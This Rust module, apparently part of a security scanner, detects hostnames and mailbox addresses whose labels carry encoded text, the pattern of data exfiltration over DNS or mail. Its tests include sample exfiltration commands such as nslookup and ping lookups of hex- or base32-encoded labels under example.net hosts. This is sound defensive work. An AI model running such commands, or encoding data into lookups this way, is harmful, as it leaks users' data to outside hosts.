//! Names of hosts and mailboxes that carry encoded text, as a query to the name service or a message would carry it out.
//!
//! Nothing around the name is asked for: a label that turns into words is proof enough, and it may stand in a command, a log or
//! a sentence. *Security*: hostile bytes; reads every run of letters and digits once. *Standards*: RFC 1035, section 2.3.1.

use std::ops::Range;

use super::carried::decoded;
use crate::rule::Strength::{self, Addressed, Mentioned};
use crate::survey::Class;
use crate::view::View;

/// The shortest label that is decoded.
const LABEL_BYTES_MIN: u32 = 16;

/// The fewest hexadecimal digits of a label that may be a piece of something encrypted, and how many such labels make a name
/// that nobody gave: digests stand alone.
const DIGITS_MIN: usize = 24;
const PIECES_MIN: usize = 2;

/// Labels of at most 63 bytes are legal; more is forgiven, as the text was not made by a name server.
const LABEL_BYTES_MAX: usize = 256;

/// Every label that carries text, with the name it stands in; rows of labels that may carry anything are mentioned.
pub(super) fn labels(view: &View<'_>) -> Vec<(Range<usize>, Strength)> {
    let bytes = view.bytes;
    let mut found = Vec::new();
    // Where the last piece began and ended, and how many there were in a row.
    let mut row = (0..0, 0);
    // Digits of base64 are the letters of labels, and two more.
    for run in view.survey().runs::<LABEL_BYTES_MIN>(Class::Base64) {
        let mut start = run.start;
        for label in bytes.get(run.clone()).unwrap_or_default().split(|byte| !is_label(*byte)) {
            let end = start + label.len();
            if (LABEL_BYTES_MIN as usize..=LABEL_BYTES_MAX).contains(&label.len())
                && let Some(name) = name_behind(padded(bytes, end))
            {
                let behind = bytes.len() - padded(bytes, end).len() + name;
                row = match row {
                    _ if !is_piece(label) => (0..0, 0),
                    (Range { start: first, end: before }, count) if count > 0 && before + 1 == start => {
                        (first..end, count + 1)
                    }
                    _ => (start..end, 1),
                };
                if carries_text(label) {
                    found.push((start..behind, Addressed));
                } else if row.1 == PIECES_MIN {
                    found.push((row.0.start..behind, Mentioned));
                }
            }
            start = end + 1;
        }
    }
    found
}

/// What follows a label and the signs that fill its last digits up. *Standards*: RFC 4648, section 3.2.
fn padded(bytes: &[u8], end: usize) -> &[u8] {
    let rest = bytes.get(end..).unwrap_or_default();
    let padding = rest.iter().take(6).take_while(|byte| **byte == b'=').count();
    rest.get(padding..).unwrap_or_default()
}

const fn is_label(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')
}

fn is_piece(label: &[u8]) -> bool {
    label.len() >= DIGITS_MIN && label.iter().all(u8::is_ascii_hexdigit)
}

fn carries_text(label: &[u8]) -> bool {
    let is_plain = label.iter().all(|byte| byte.is_ascii_lowercase() || *byte == b'-');
    !is_plain && decoded(label).or_else(|| label.split(|byte| *byte == b'-').find_map(decoded)).is_some()
}

/// The length of `.a.example`, or of `@a.example` or `@192.0.2.7`, behind a label.
fn name_behind(rest: &[u8]) -> Option<usize> {
    let Some(host) = rest.strip_prefix(b"@") else { return domain_behind(rest) };
    let length = host.iter().take(256).take_while(|byte| is_label(**byte) || **byte == b'.').count();
    let name = host.get(..length)?;
    let (dots, is_number) = (memchr::memchr_iter(b'.', name).count(), !name.iter().any(u8::is_ascii_alphabetic));
    (if is_number { dots == 3 } else { dots > 0 }).then_some(length + 1)
}

/// The length of `.a.example` behind a label: two labels at least, the last of letters.
pub(super) fn domain_behind(rest: &[u8]) -> Option<usize> {
    let rest = rest.get(..rest.len().min(256)).unwrap_or_default();
    let length = rest.iter().take_while(|byte| is_label(**byte) || **byte == b'.').count();
    let name = rest.get(..length)?.strip_prefix(b".")?;
    let name = name.strip_suffix(b".").unwrap_or(name);
    let top = name.rsplit(|byte| *byte == b'.').next()?;
    let labels = name.split(|byte| *byte == b'.').filter(|label| !label.is_empty()).count();
    (labels >= 2 && (2..=18).contains(&top.len()) && top.iter().all(u8::is_ascii_alphabetic)).then_some(length)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::place::Place;

    fn labels(text: &[u8]) -> Vec<(Range<usize>, Strength)> {
        super::labels(&View::whole(text, Place::Artifact))
    }

    #[test]
    fn a_label_that_turns_into_words_is_found_wherever_the_name_stands() {
        for text in [
            "nslookup 53455353494f4e2039663331206f70656e6564.dns.collect.example.net",
            "query: orugkidcmfwgc3tdmuqgs4zagezdana.t.example.net. IN A",
            "dXNlcj1hZGFAZXhhbXBsZS5jb20.x.example.net",
            "Reply-To: in+7468652062616c616e6365206973206c6f77@example.net",
            "ping mfrggzdfmztwq2lk.a.example.net",
            "query[TXT] 0001.MN2XG5DPNVSXEIDMNFZXIIDQMFZHIIDPNZSQ====.up.example.net from 127.0.0.1",
            "turn:dXNlcj1hZGFAZXhhbXBsZS5jb20@192.0.2.7:3478",
        ] {
            assert_eq!(labels(text.as_bytes()).len(), 1, "{text}");
        }
    }

    #[test]
    fn a_row_of_labels_that_nobody_gave_is_mentioned() {
        let text = "query[A] b4ff6a8b4d9c658b667fcf44.0fbef69151cfab209307d15d.09.up.example.net from 192.0.2.1";
        assert_eq!(labels(text.as_bytes()), [(9..76, Mentioned)]);
    }

    #[test]
    fn long_ordinary_names_and_digests_are_left_alone() {
        for text in [
            "ec2-203-0-113-25.compute-1.amazonaws.example.com",
            "9f86d081884c7d659a2feaa0c55ad015.cdn.example.net",
            "registry.internationalization-of-names.example.org",
            "7468652062616c616e636520697320313230342e3530 alone",
            "dXNlcj1hZGFAZXhhbXBsZS5jb20.txt",
            "<CAPx9Yw4kQ2f0aTzN7eLr3Vb8mHs5uJc1@mail.example.org>",
            "dXNlcj1hZGFAZXhhbXBsZS5jb20@12",
        ] {
            assert!(labels(text.as_bytes()).is_empty(), "{text}");
        }
    }
}
